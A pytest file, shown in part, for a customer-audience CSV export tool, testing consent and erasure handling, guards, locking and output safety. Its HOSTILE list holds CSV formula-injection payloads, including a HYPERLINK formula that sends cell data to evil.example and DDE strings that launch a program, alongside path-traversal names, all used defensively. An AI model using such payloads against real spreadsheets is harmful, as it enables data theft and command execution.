"""Who reaches a file, who does not, and what a crash, a guard or an attack leaves."""

import csv
import errno
import fcntl
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest

from customer_segments.exporting import export_audiences, file_forms
from customer_segments.exporting.folder import temporary
from tests.python.crashing import killed_at
from tests.python.warehouse import ROOT, Warehouse, opened_elsewhere

HEADER = "audience,customer_id,channel,identifier,message_class,campaign_id"
CHANNELS = "main_intermediate.int_customer_channels"
MEMBER = "activation_guide"
CANARY = "canary.person@example.kr"


@dataclass(frozen=True)
class Outcome:
    """What a run of the command returned and said."""

    code: int
    out: str
    err: str


class Shop:
    """A built shop of the test's own: database, landing folder and exported files."""

    def __init__(self, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.warehouse = Warehouse(folder)
        self.folder = folder
        self.out = folder / "audiences"
        self.capsys = capsys
        self.destinations = folder / "destinations.yml"
        self.destinations.write_text("destinations: {files: {form: default}}\n")

    @property
    def database(self) -> Path:
        return self.warehouse.database

    def export(self, *options: str, age: str = "any") -> Outcome:
        """Run the command in this process."""
        self.capsys.readouterr()
        code = export_audiences.main(
            [
                *("run", "--database", str(self.database), "--out", str(self.out)),
                *("--max-age-days", age, "--destinations", str(self.destinations)),
                *options,
            ]
        )
        said = self.capsys.readouterr()
        return Outcome(code, said.out, said.err)

    def change(self, *statements: str) -> None:
        """Change the database, as a build or somebody else would."""
        with duckdb.connect(str(self.database)) as connection:
            for statement in statements:
                connection.sql(statement)

    def wish(self, table: str, header: str, *lines: str) -> None:
        """Load rows of a wish table after the build."""
        file = self.warehouse.raw / table / f"{len(lines)}-{hash(lines)}.csv"
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("\n".join([header, *lines, ""]), encoding="utf-8")
        self.warehouse.load(loaded_at="2026-07-01T05:00:00+00:00")

    def consent(self, *lines: str) -> None:
        self.wish("consents", "customer_id,channel,purpose,status,changed_at", *lines)

    def erase(self, *customers: str) -> None:
        lines = (f"r-{one},{one},2026-07-01T01:00:00Z" for one in customers)
        self.wish("deletion_requests", "request_id,customer_id,requested_at", *lines)

    def suppress(self, *lines: str) -> None:
        self.wish("suppressions", "identifier,channel,reason,starts_at,ends_at", *lines)

    def freeze(self, changes: str = "") -> None:
        """Turn the live view of channels into a table, as a careless change would."""
        self.change(
            f"create table main_intermediate.frozen as select * from {CHANNELS}",
            f"update main_intermediate.frozen set {changes}" if changes else "select 1",
            f"create or replace view {CHANNELS} as"
            " select * from build.main_intermediate.frozen",
        )

    def add_members(self, *rows: tuple[str, str, str]) -> None:
        """Put (customer_id, identifier, campaign_id) into an audience of information.

        The campaign of the audience becomes that of the first row.
        """
        self.freeze()
        campaign = rows[0][2].replace("'", "''")
        self.change(
            f"update main.audiences set campaign_id = '{campaign}',"
            f" sendable_count = {len(rows)},"
            f" member_count = {len(rows)} + member_count - sendable_count"
            f" where audience = '{MEMBER}'",
            f"delete from main.audience_members where audience = '{MEMBER}'",
        )
        with duckdb.connect(str(self.database)) as connection:
            for customer, identifier, campaign_id in rows:
                connection.sql(
                    "insert into main.audience_members by name select"
                    f" '{MEMBER}' as audience, $1 as customer_id,"
                    " 'alimtalk' as channel, $2 as identifier,"
                    " $2 as destination_identifier, 'info' as message_class,"
                    " $3 as campaign_id",
                    params=[customer, identifier, campaign_id],
                )
                connection.sql(
                    "insert into main_intermediate.frozen by name select $1 as"
                    " customer_id, 'alimtalk' as channel, false as is_test, $2 as"
                    " identifier, true as is_valid_identifier, false as is_suppressed,"
                    " false as has_ad_consent, false as has_night_consent,"
                    " false as has_third_party_consent",
                    params=[customer, identifier],
                )

    def members(self, audience: str) -> list[tuple[Any, ...]]:
        """Rows of the build, sorted by Python."""
        return sorted(
            self.warehouse.query(
                f"select {HEADER} from main.audience_members"
                f" where audience = '{audience}'"
            ),
            key=lambda row: str(row[1]),
        )

    def customers(self, audience: str) -> list[str]:
        return [str(row[1]) for row in self.members(audience)]

    def rows(self, audience: str) -> list[list[str]]:
        """Rows of an exported file."""
        with (self.out / f"{audience}.csv").open(encoding="utf-8", newline="") as file:
            return list(csv.reader(file))[1:]

    def exported(self, audience: str) -> list[str]:
        return [row[1] for row in self.rows(audience)]

    def manifest(self) -> dict[str, Any]:
        """Entries of the manifest by audience."""
        content = json.loads((self.out / "manifest.json").read_text(encoding="utf-8"))
        entries: dict[str, Any] = content["audiences"]
        return entries

    def files(self) -> dict[str, bytes]:
        """Every file of the out folder but the lock, and its bytes."""
        if not self.out.exists():
            return {}
        return {
            path.name: path.read_bytes()
            for path in sorted(self.out.iterdir())
            if path.is_file() and path.name != ".lock"
        }


def copy_shop(shop: Warehouse, target: Path, landing: str | None = None) -> None:
    """Copy a built shop; its raw views read the copied landing folder."""
    shutil.copytree(shop.landing, target / "landing")
    shutil.copy(shop.database, target / "build.duckdb")
    with duckdb.connect(str(target / "build.duckdb")) as connection:
        views = connection.sql(
            "select sql from duckdb_views() where schema_name in ('raw', 'landing')"
        ).fetchall()
        for (sql,) in views:
            moved = sql.replace(str(shop.landing), landing or str(target / "landing"))
            connection.sql(moved.replace("CREATE VIEW", "create or replace view", 1))


@pytest.fixture
def own(shop: Warehouse, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Shop:
    """A copy of the built shop that the test may change."""
    copy_shop(shop, tmp_path)
    return Shop(tmp_path, capsys)


# --- what is written


def test_a_file_holds_the_sendable_members_by_code_point(own: Shop) -> None:
    assert own.export().code == 0
    names = [row[0] for row in own.warehouse.query("select audience from audiences")]
    assert sorted(own.manifest()) == sorted(names)
    for name in names:
        expected = [list(map(str, row)) for row in own.members(name)]
        assert own.rows(name) == expected
        content = (own.out / f"{name}.csv").read_bytes()
        assert content.splitlines()[0].decode() == HEADER
        assert b"\r" not in content and content.endswith(b"\n")
    assert sum(len(own.rows(name)) for name in names) > 100


def test_ids_are_sorted_by_code_point_and_quoted_as_rfc_4180(own: Shop) -> None:
    ids = ["b", "a", "B", "가", "😀", "10", "9", 'say "hi", you']
    own.add_members(*((one, f"+8210000000{n}", "cmp") for n, one in enumerate(ids)))
    assert own.export().code == 0
    assert own.exported(MEMBER) == sorted(ids)
    assert b'"say ""hi"", you"' in (own.out / f"{MEMBER}.csv").read_bytes()


def test_the_manifest_describes_each_file(own: Shop) -> None:
    assert own.export().code == 0
    for name, entry in own.manifest().items():
        content = (own.out / entry["file"]).read_bytes()
        assert entry["file"] == f"{name}.csv"
        assert entry["sha256"] == hashlib.sha256(content).hexdigest()
        assert entry["bytes"] == len(content)
        assert entry["rows"] == len(own.rows(name))
        assert ",".join(entry["header"]) == HEADER
        assert entry["members"] == entry["sendable"] + sum(entry["excluded"].values())
    text = (own.out / "manifest.json").read_text(encoding="utf-8")
    content = json.loads(text)
    assert content["as_of_date"] == "2026-06-30"
    assert (
        text == json.dumps(content, ensure_ascii=False, indent=2, sort_keys=True) + "\n"
    )


def test_members_add_up_to_rows_after_wishes(own: Shop) -> None:
    own.erase(*own.customers("news_to_all")[:5])
    own.add_members(("a", "+821000000001", "cmp"), ("b\tc", "+821000000002", "cmp"))
    own.export()
    for entry in own.manifest().values():
        lost = [*entry["dropped"].values(), *entry["rejected"].values()]
        assert entry["sendable"] == entry["rows"] + sum(lost)


def test_same_input_gives_same_bytes(own: Shop) -> None:
    assert own.export().code == 0
    first = own.files()
    assert own.export().code == 0
    assert own.files() == first
    shutil.rmtree(own.out)
    assert own.export().code == 0
    assert own.files() == first


def test_files_are_for_their_owner_alone(own: Shop) -> None:
    before = os.umask(0)
    try:
        assert own.export().code == 0
    finally:
        os.umask(before)
    assert stat.S_IMODE(own.out.stat().st_mode) == 0o700
    private = [*own.out.rglob("*"), own.folder / "ledger.duckdb"]
    assert len(private) > 20
    for path in private:
        mode = 0o700 if path.is_dir() else 0o600
        assert stat.S_IMODE(path.stat().st_mode) == mode, path.name


def test_an_open_folder_of_something_else_is_refused(own: Shop) -> None:
    own.out.mkdir()
    (own.out / "holiday.txt").write_text("mine")
    own.out.chmod(0o755)
    outcome = own.export()
    assert outcome.code == 2 and "chmod 700" in outcome.err
    assert own.files() == {"holiday.txt": b"mine"}


def test_the_build_is_closed_before_anything_is_written(
    own: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[bool] = []
    write = file_forms.write_rows

    def watched(*arguments: Any) -> Any:
        held = {os.path.realpath(one.path) for one in os.scandir("/proc/self/fd")}
        seen.append(str(own.database.resolve()) in held)
        return write(*arguments)

    monkeypatch.setattr("customer_segments.exporting.file_sink.write_rows", watched)
    assert own.export().code == 0
    assert seen and not any(seen)


def test_one_audience_can_be_exported_alone(own: Shop) -> None:
    assert own.export("--audience", "win_back").code == 0
    assert sorted(own.files()) == ["manifest.json", "win_back.csv"]
    assert own.export("--audience", "news_to_all").code == 0
    assert sorted(own.manifest()) == ["news_to_all", "win_back"]


def test_an_unknown_audience_is_refused_with_the_nearest_name(own: Shop) -> None:
    outcome = own.export("--audience", "win_bak")
    assert outcome.code == 2 and "win_back" in outcome.err
    assert own.files() == {}


# --- wishes that were loaded after the build


def test_a_withdrawal_after_the_build_drops_the_row(own: Shop) -> None:
    gone, stays = own.customers("win_back")[:2]
    own.consent(
        f"{gone},sms,ad,withdrawn,2026-07-01T01:00:00Z",
        f"{stays},email,ad,withdrawn,2026-07-01T01:00:00Z",
    )
    assert own.export().code == 0
    assert gone not in own.exported("win_back")
    assert stays in own.exported("win_back")
    assert own.manifest()["win_back"]["dropped"] == {"withdrawn": 1}


def test_a_withdrawal_older_than_the_grant_drops_nobody(own: Shop) -> None:
    someone = own.customers("win_back")[0]
    own.consent(f"{someone},sms,ad,withdrawn,2001-01-01T00:00:00Z")
    assert own.export().code == 0
    assert someone in own.exported("win_back")


def granted_at(own: Shop, customer: str) -> str:
    """When a customer last agreed to advertising by text message."""
    [(moment,)] = own.warehouse.query(
        "select granted_at from main_intermediate.int_consents where channel = 'sms'"
        f" and purpose = 'ad' and customer_id = '{customer}'"
    )
    return f"{moment.isoformat()}Z"


def test_a_withdrawal_at_the_time_of_the_grant_wins(own: Shop) -> None:
    someone = own.customers("win_back")[0]
    own.consent(f"{someone},sms,ad,withdrawn,{granted_at(own, someone)}")
    assert own.export().code == 0
    assert someone not in own.exported("win_back")


def test_a_wish_nobody_can_read_counts_as_a_withdrawal(own: Shop) -> None:
    someone, other = own.customers("win_back")[:2]
    own.consent(
        f"{someone},sms,ad,maybe,2026-07-01T01:00:00Z",
        f"{other},sms,ad,withdrawn,yesterday-ish",
    )
    assert own.export().code == 0
    assert own.manifest()["win_back"]["dropped"] == {"withdrawn": 2}


def test_information_needs_no_consent_to_advertising(own: Shop) -> None:
    someone = own.customers(MEMBER)[0]
    own.consent(f"{someone},alimtalk,ad,withdrawn,2026-07-01T01:00:00Z")
    assert own.export().code == 0
    assert someone in own.exported(MEMBER)


def test_the_erased_leave_every_audience(own: Shop) -> None:
    someone = own.customers("news_to_all")[0]
    for name in (MEMBER, "purchase_frequency"):
        own.erase(own.customers(name)[0])
    own.erase(someone)
    assert own.export().code == 0
    assert someone not in own.exported("news_to_all")
    for name in ("news_to_all", MEMBER, "purchase_frequency"):
        assert own.manifest()[name]["dropped"]["erased"] >= 1


@pytest.mark.few(2)
@pytest.mark.parametrize("form", ["{0}", "0{1}", "+82 {1}", "82{1}", "customer"])
def test_a_suppressed_number_leaves_however_it_is_written(own: Shop, form: str) -> None:
    member = own.members("win_back")[0]
    number = str(member[3])
    written = form.format(number, number.removeprefix("+82"))
    own.suppress(f"{member[1] if form == 'customer' else written},sms,complaint,,")
    assert own.export().code == 0
    assert own.manifest()["win_back"]["dropped"] == {"suppressed": 1}
    assert member[1] not in own.exported("win_back")


def test_a_suppression_of_another_channel_or_that_ended_counts_not(own: Shop) -> None:
    first, second = (row[3] for row in own.members("win_back")[:2])
    own.suppress(
        f"{first},email,complaint,,",
        f"{second},sms,complaint,2026-01-01T00:00:00Z,2026-02-01T00:00:00Z",
    )
    assert own.export().code == 0
    assert own.manifest()["win_back"]["dropped"] == {}


def test_changed_people_are_dropped_by_reason(own: Shop) -> None:
    tester, mover, unknown = own.customers("news_to_all")[:3]
    own.change(
        f"update main_staging.stg_customers set is_test = true"
        f" where customer_id = '{tester}'",
        f"update main_staging.stg_customers set email = '{CANARY}'"
        f" where customer_id = '{mover}'",
        f"delete from main_staging.stg_customers where customer_id = '{unknown}'",
    )
    outcome = own.export()
    assert outcome.code == 0
    assert own.manifest()["news_to_all"]["dropped"] == {
        "identifier_changed": 1,
        "test_account": 1,
        "unknown_customer": 1,
    }
    assert not {tester, mover, unknown} & set(own.exported("news_to_all"))
    assert "identifier_changed 1" in outcome.out


@pytest.mark.parametrize(
    ("column", "audience", "channel", "purpose"),
    [
        ("touches_night", "win_back", "sms", "night_ad"),
        ("needs_third_party_consent", "news_to_all", "email", "third_party"),
    ],
)
def test_night_and_third_parties_need_their_own_consent(
    own: Shop, column: str, audience: str, channel: str, purpose: str
) -> None:
    own.change(f"update main.audiences set {column} = true")
    own.consent(
        *(
            f"{one},{channel},{purpose},granted,2026-06-29T00:00:00Z"
            for one in own.customers(audience)[:10]
        )
    )
    assert own.export("--audience", audience).code == 0
    allowed = {
        row[0]
        for row in own.warehouse.query(
            "select customer_id from main_intermediate.int_consents join main.audiences"
            f" using (channel) where audience = '{audience}'"
            f" and purpose = '{purpose}' and is_granted"
        )
    }
    expected = [one for one in own.customers(audience) if one in allowed]
    assert own.exported(audience) == expected
    assert 10 <= len(expected) < len(own.members(audience))
    dropped = own.manifest()[audience]["dropped"]
    reason = f"no_{purpose.removesuffix('_ad')}_consent"
    assert dropped[reason] + dropped.get("withdrawn", 0) == sum(dropped.values())


# --- the check that trusts no model


def plant(own: Shop, kind: str) -> str:
    """Load a wish of a kind that the frozen models do not see; whose it is."""
    someone, number = map(str, (own.members("win_back")[0][1:4:2]))
    if kind == "withdrawn":
        own.consent(f"{someone}, SMS ,ad,withdrawn,2026-07-01T01:00:00Z")
    elif kind == "withdrawn_at_once":
        own.consent(f"{someone},sms,ad,withdrawn,{granted_at(own, someone)}")
    elif kind == "erased":
        own.erase(someone)
    elif kind == "suppressed":
        own.suppress(f"{number.replace('+82', '0')},sms,complaint,,")
    else:
        own.suppress(f"{someone},telepathy,complaint,,")
    return someone


@pytest.mark.few(2)
@pytest.mark.parametrize(
    "kind", ["withdrawn", "withdrawn_at_once", "erased", "suppressed", "everywhere"]
)
def test_a_wish_the_models_miss_stops_everything(own: Shop, kind: str) -> None:
    own.freeze()
    someone = plant(own, kind)
    outcome = own.export()
    assert outcome.code == 3
    assert own.files() == {}
    assert "consent check: 1 rows" in outcome.err and "win_back" in outcome.err
    assert someone not in outcome.err + outcome.out


@pytest.mark.parametrize("column", ["touches_night", "needs_third_party_consent"])
def test_missing_grants_the_models_claim_stop_everything(
    own: Shop, column: str
) -> None:
    own.change(f"update main.audiences set {column} = true")
    own.freeze("has_night_consent = true, has_third_party_consent = true")
    outcome = own.export()
    assert outcome.code == 3 and own.files() == {}
    assert "no_consent" in outcome.err


def test_two_erased_under_one_request_number_are_both_found(own: Shop) -> None:
    first, second = own.customers("win_back")[:2]
    own.wish(
        "deletion_requests",
        "request_id,customer_id,requested_at",
        f"r1,{first},2026-07-01T01:00:00Z",
        f"r1,{second},2026-07-01T02:00:00Z",
    )
    assert own.export().code == 0
    assert not {first, second} & set(own.exported("win_back"))


def test_a_dispute_takes_people_out_of_the_old_file(own: Shop) -> None:
    assert own.export().code == 0
    before = own.files()
    own.freeze()
    someone = plant(own, "withdrawn")
    outcome = own.export()
    assert outcome.code == 3 and "by their own wish: 1" in outcome.err
    after = own.files()
    changed = {name for name in before if before[name] != after[name]}
    assert changed == {"win_back.csv", "manifest.json"}
    assert someone not in own.exported("win_back")
    entry = own.manifest()["win_back"]
    assert entry["sha256"] == hashlib.sha256(after["win_back.csv"]).hexdigest()
    assert own.export().code == 3
    assert own.files() == after


# --- guards


@pytest.mark.few(2)
@pytest.mark.parametrize(
    ("guard", "code"),
    [("min_rows = 54", 0), ("min_rows = 55", 3), ("max_rows = 54", 0),
     ("max_rows = 53", 3)],
)  # fmt: skip
def test_row_guards_stop_at_their_bounds(own: Shop, guard: str, code: int) -> None:
    count = len(own.members("win_back"))
    moved = guard.replace("54", str(count)).replace("55", str(count + 1))
    moved = moved.replace("53", str(count - 1))
    own.change(f"update main.audiences set {moved} where audience = 'win_back'")
    outcome = own.export()
    assert outcome.code == code
    if code:
        assert own.files() == {}
        assert guard.split()[0] in outcome.err and str(count) in outcome.err
        assert "audience_definitions.yml" in outcome.err


def shrink(own: Shop, audience: str, keep: int) -> None:
    """Let a build lose members of an audience for no reason of their own."""
    kept = "', '".join(own.customers(audience)[:keep])
    own.change(
        f"delete from main.audience_members where audience = '{audience}'"
        f" and customer_id not in ('{kept}')",
        f"update main.audiences set sendable_count = {keep},"
        f" member_count = {keep} + member_count - sendable_count"
        f" where audience = '{audience}'",
    )


@pytest.mark.few(1)
@pytest.mark.parametrize(("lost", "code"), [(4, 0), (5, 3)])
def test_too_many_removed_stop_the_export(own: Shop, lost: int, code: int) -> None:
    own.change("update main.audiences set max_removed_share = 1")
    shrink(own, "win_back", 16)
    own.change(
        "update main.audiences set max_removed_share = 0.25 where audience = 'win_back'"
    )
    assert own.export().code == 0
    before = own.files()
    shrink(own, "win_back", 16 - lost)
    outcome = own.export()
    assert outcome.code == code
    if code:
        assert own.files() == before
        assert "5 of 16" in outcome.err and "25.0%" in outcome.err
        (own.out / "win_back.csv").unlink()
        assert own.export().code == 0


@pytest.mark.few(1)
@pytest.mark.parametrize(("lost", "code"), [(3, 0), (4, 3)])
def test_wishes_hide_no_loss_from_the_guard(own: Shop, lost: int, code: int) -> None:
    shrink(own, "win_back", 16)
    own.change("update main.audiences set max_removed_share = 1")
    assert own.export().code == 0
    own.change(
        "update main.audiences set max_removed_share = 0.25 where audience = 'win_back'"
    )
    wishing = own.customers("win_back")[:4]
    own.consent(*(f"{one},sms,ad,withdrawn,2026-07-01T01:00:00Z" for one in wishing))
    shrink(own, "win_back", 16 - lost)
    outcome = own.export()
    assert outcome.code == code
    assert ("4 of 12" in outcome.err) == (code == 3)
    assert not set(wishing) & set(own.exported("win_back"))


def test_one_broken_guard_stops_all_audiences(own: Shop) -> None:
    assert own.export().code == 0
    before = own.files()
    shrink(own, "purchase_frequency", 10)
    shrink(own, "news_to_all", 1)
    outcome = own.export()
    assert outcome.code == 3 and "news_to_all: guard max_removed_share" in outcome.err
    assert own.files() == before


def test_withdrawals_are_blocked_by_no_guard(own: Shop) -> None:
    assert own.export().code == 0
    everybody = own.customers("news_to_all")
    own.consent(
        *(f"{one},email,ad,withdrawn,2026-07-01T01:00:00Z" for one in everybody)
    )
    outcome = own.export()
    assert outcome.code == 0, outcome.err
    assert own.exported("news_to_all") == []
    assert own.manifest()["news_to_all"]["dropped"] == {"withdrawn": len(everybody)}


def test_who_withdrew_leaves_even_when_a_guard_stops_the_export(own: Shop) -> None:
    assert own.export().code == 0
    gone, other = own.customers("news_to_all")[0], own.customers("win_back")[0]
    own.consent(f"{gone},email,ad,withdrawn,2026-07-01T01:00:00Z")
    own.erase(other)
    kept = [one for one in own.exported("news_to_all") if one not in (gone, other)]
    shrink(own, "news_to_all", 1)
    outcome = own.export()
    assert outcome.code == 3
    assert own.exported("news_to_all") == kept
    assert other not in own.exported("win_back")
    assert gone not in outcome.err + outcome.out


def test_lost_consent_rows_empty_no_list(own: Shop) -> None:
    assert own.export().code == 0
    before = own.files()
    own.change(
        "create or replace view raw.consents as select * from (select null::varchar"
        " as customer_id, null::varchar as channel, null::varchar as purpose,"
        " null::varchar as status, null::timestamp as changed_at, null::timestamp as"
        " loaded_at, null::varchar as source_file, null::bigint as source_row"
        " where false) as nothing",
    )
    outcome = own.export()
    assert outcome.code == 3 and "max_removed_share" in outcome.err
    assert own.files() == before


def test_an_earlier_file_nobody_can_read_stops_the_export(own: Shop) -> None:
    assert own.export().code == 0
    (own.out / "win_back.csv").write_text("something\nelse,entirely,x\n")
    outcome = own.export()
    assert outcome.code == 3 and "win_back.csv" in outcome.err


# --- audiences that are no more, and names


def test_the_file_of_an_audience_that_is_no_more_is_removed(own: Shop) -> None:
    assert own.export().code == 0
    (own.out / "forgotten.csv").write_text(f"{HEADER}\nforgotten,c1,sms,x,ad,y\n")
    (own.out / "notes.csv").write_text("my,own,notes\n")
    for table in ("audiences", "audience_members", "audience_exclusions"):
        own.change(f"delete from main.{table} where audience = 'win_back'")
    outcome = own.export()
    assert outcome.code == 0
    assert "win_back.csv: removed" in outcome.out
    assert "forgotten.csv: removed" in outcome.out
    assert not {"win_back.csv", "forgotten.csv"} & own.files().keys()
    assert "notes.csv" in own.files()
    assert "win_back" not in own.manifest()


def test_no_audience_at_all_removes_nothing(own: Shop) -> None:
    assert own.export().code == 0
    before = own.files()
    own.change("delete from main.audiences")
    assert own.export().code == 2
    assert own.files() == before


@pytest.mark.few(3)
@pytest.mark.parametrize(
    "name",
    ["../x", "x/y", "", "con", "lpt1", "A", "1a", "a" * 64, "a\nb", "á", ".lock"],
)
def test_a_name_that_is_no_file_name_is_refused(own: Shop, name: str) -> None:
    with duckdb.connect(str(own.database)) as connection:
        connection.sql(
            "update main.audiences set audience = $1 where audience = 'win_back'",
            params=[name],
        )
    around = {*own.folder.iterdir(), own.out, own.folder / "ledger.duckdb"}
    outcome = own.export()
    assert outcome.code == 2 and "1 of 6 names" in outcome.err
    assert own.files() == {}
    assert set(own.folder.iterdir()) == around


# --- values


@pytest.mark.few(2)
@pytest.mark.parametrize("sign", ["\x00", "\n", "\r", "\x1b[2J", "\u202e", "\x85"])
def test_control_characters_reject_the_row_alone(own: Shop, sign: str) -> None:
    own.add_members(("a", "+821000000001", "cmp"), (f"b{sign}", "+821000000002", "cmp"))
    outcome = own.export()
    assert outcome.code == 4
    assert own.exported(MEMBER) == ["a"]
    assert own.manifest()[MEMBER]["rejected"] == {"control_character": 1}
    assert len(own.exported("news_to_all")) > 100
    assert "control_character 1" in outcome.out


HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "+821012345678",
]


def test_formulas_are_inert_and_phones_stay_phones(own: Shop) -> None:
    rows = [(one, f"+8210000000{n:02}", HOSTILE[0]) for n, one in enumerate(HOSTILE)]
    own.add_members(*rows, ("token", "-aB_c:APA91", HOSTILE[0]))
    outcome = own.export()
    assert outcome.code == 0
    written = {row[1]: row for row in own.rows(MEMBER)}
    assert sorted(written) == sorted([*("'" + one for one in HOSTILE), "token"])
    for number, one in enumerate(HOSTILE):
        row = written["'" + one]
        assert row[3] == f"+8210000000{number:02}"
        assert row[5] == "'" + HOSTILE[0]
    assert written["token"][3] == "-aB_c:APA91"


def test_formulas_in_identifiers_are_inert_too(own: Shop) -> None:
    own.add_members(*((f"c{n}", one, "cmp") for n, one in enumerate(HOSTILE)))
    assert own.export().code == 0
    identifiers = [row[3] for row in own.rows(MEMBER)]
    assert identifiers == [*("'" + one for one in HOSTILE[:-1]), HOSTILE[-1]]


def test_machine_files_hold_each_value_untouched(own: Shop) -> None:
    own.add_members(*((one, f"x{n}", "=1") for n, one in enumerate(HOSTILE)))
    assert own.export("--no-spreadsheet-safe").code == 0
    assert own.exported(MEMBER) == sorted(HOSTILE)
    assert not own.manifest()[MEMBER]["spreadsheet_safe"]


def test_quoted_ids_are_the_same_people_at_the_next_export(own: Shop) -> None:
    own.add_members(*((one, f"x{n}", "=1") for n, one in enumerate(HOSTILE)))
    own.change("update main.audiences set max_removed_share = 0")
    assert own.export().code == 0
    assert own.export().code == 0
    assert own.export("--no-spreadsheet-safe").code == 0
    own.erase("@SUM(1)")
    assert own.export("--no-spreadsheet-safe").code == 3
    assert "@SUM(1)" not in own.exported(MEMBER)


# --- builds that cannot be used


def test_a_missing_database_is_refused_and_nothing_is_made(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    own = Shop(tmp_path, capsys)
    outcome = own.export()
    assert outcome.code == 2 and "run dbt build" in outcome.err
    assert list(tmp_path.iterdir()) == [own.destinations]


@pytest.mark.parametrize("content", [b"", b"not a database at all" * 1000])
def test_a_file_that_is_no_build_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes
) -> None:
    own = Shop(tmp_path, capsys)
    own.database.write_bytes(content)
    outcome = own.export()
    assert outcome.code == 2 and "run dbt build" in outcome.err
    assert own.database.read_bytes() == content


@pytest.mark.parametrize(
    "loss",
    ["drop table main.audience_members", f"drop view {CHANNELS}",
     "alter table main.audiences drop column max_rows", "drop view raw.consents"],
)  # fmt: skip
def test_a_build_without_its_tables_is_refused(own: Shop, loss: str) -> None:
    own.change(loss)
    outcome = own.export()
    assert outcome.code == 2 and "run dbt build" in outcome.err
    assert own.files() == {}


def test_a_landing_folder_that_is_gone_is_refused(own: Shop) -> None:
    shutil.rmtree(own.folder / "landing" / "consents")
    outcome = own.export()
    assert outcome.code == 6 and "landing folder" in outcome.err
    assert own.files() == {}


@pytest.mark.few(3)
@pytest.mark.parametrize(
    ("yesterday", "age", "code"),
    [
        ("2026-06-30", "0", 0),
        ("2026-07-01", "0", 6),
        ("2026-07-03", "3", 0),
        ("2026-07-04", "3", 6),
        ("2026-06-29", "3", 6),
        ("2036-07-04", "any", 0),
    ],
)
def test_a_stale_build_goes_nowhere(
    own: Shop, monkeypatch: pytest.MonkeyPatch, yesterday: str, age: str, code: int
) -> None:
    day = date.fromisoformat(yesterday)
    monkeypatch.setattr(export_audiences, "yesterday", lambda zone: day)
    outcome = own.export(age=age)
    assert outcome.code == code
    assert (own.files() == {}) == (code == 6)
    assert ("2026-06-30" in outcome.err) == (code == 6)


def test_without_saying_so_three_days_are_the_limit(
    own: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    command = ["run", "--database", str(own.database), "--out", str(own.out)]
    monkeypatch.setattr(export_audiences, "yesterday", lambda zone: date(2026, 7, 4))
    assert export_audiences.main(command) == 6
    monkeypatch.setattr(export_audiences, "yesterday", lambda zone: date(2026, 7, 3))
    assert export_audiences.main(command) == 0


@pytest.mark.few(1)
@pytest.mark.parametrize(
    "change",
    [
        "delete from main.audience_members where audience = 'win_back'",
        "update main.audience_members set message_class = 'info'",
        "update main.audiences set as_of_date = as_of_date - 1"
        " where audience = 'win_back'",
        "insert into main.audience_members from main.audience_members limit 1",
    ],
)
def test_tables_of_different_builds_go_nowhere(own: Shop, change: str) -> None:
    own.change(change)
    assert own.export().code == 6
    assert own.files() == {}


def parts(landed: Path) -> list[Path]:
    """The files of a raw table's one loaded file, and what the loader noted of it."""
    (path,) = landed.glob("*.parquet")
    notes = [
        landed.with_name(folder) / path.name
        for folder in ("load_manifest", "load_rejects")
    ]
    return [path, *notes]


def test_a_build_blind_to_the_first_wishes_goes_nowhere(own: Shop) -> None:
    own.change(
        "create or replace view raw.deletion_requests as select null::varchar as"
        " request_id, null::varchar as customer_id, null::timestamp as requested_at,"
        " null::timestamp as loaded_at, null::varchar as source_file,"
        " null::bigint as source_row where false"
    )
    landed = own.folder / "landing" / "deletion_requests"
    own.change(
        "delete from landing.landed_files where source_file like 'deletion_requests/%'"
    )
    kept = {path: own.folder / f"{n}.kept" for n, path in enumerate(parts(landed))}
    for path, place in kept.items():
        path.rename(place)
    assert own.export().code == 0
    for path, place in kept.items():
        place.rename(path)
    own.erase(own.customers("win_back")[0])
    outcome = own.export()
    assert outcome.code == 6 and "deletion_requests" in outcome.err


def test_a_renamed_build_with_relative_paths_is_read_from_anywhere(
    shop: Warehouse,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    shutil.copy(ROOT / "dbt_project.yml", project)
    copy_shop(shop, project)
    with duckdb.connect(str(project / "build.duckdb")) as connection:
        for (sql,) in connection.sql(
            "select sql from duckdb_views() where schema_name in ('raw', 'landing')"
        ).fetchall():
            moved = sql.replace(str(project / "landing"), "landing")
            monkeypatch.chdir(project)
            connection.sql(moved.replace("CREATE VIEW", "create or replace view", 1))
    published = tmp_path / "published-1.duckdb"
    (project / "build.duckdb").rename(published)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    command = ["run", "--database", "../published-1.duckdb", "--out", "out"]
    assert export_audiences.main(
        [*command, "--max-age-days", "any", "--project-dir", str(project)]
    ) == 0  # fmt: skip
    assert (elsewhere / "out" / "manifest.json").is_file()
    assert Path.cwd() == elsewhere


# --- locks, crashes, disks


def test_a_build_that_is_being_written_is_left_alone(own: Shop) -> None:
    with opened_elsewhere(own.database) as builder:
        outcome = own.export()
    assert outcome.code == 75
    assert str(builder.pid) in outcome.err
    assert len(outcome.err.splitlines()) == 1
    assert own.files() == {}


def test_a_second_export_says_who_holds_the_folder(own: Shop) -> None:
    own.out.mkdir(mode=0o700)
    with (own.out / ".lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        lock.write("4242")
        lock.flush()
        outcome = own.export()
    assert outcome.code == 75 and "process 4242" in outcome.err
    assert own.files() == {}
    assert own.export().code == 0


FILE_POINTS = [
    ("planned", 1),
    ("dropped, not committed", 1),
    ("files: staged", 1),
    ("files: written down, not committed", 1),
    ("files: in flight", 1),
    ("files: one in place", 1),
    ("files: one in place", 3),
    ("files: one removed", 1),
    ("files: all in place", 1),
    ("files: settled, not committed", 1),
    ("files: settled", 1),
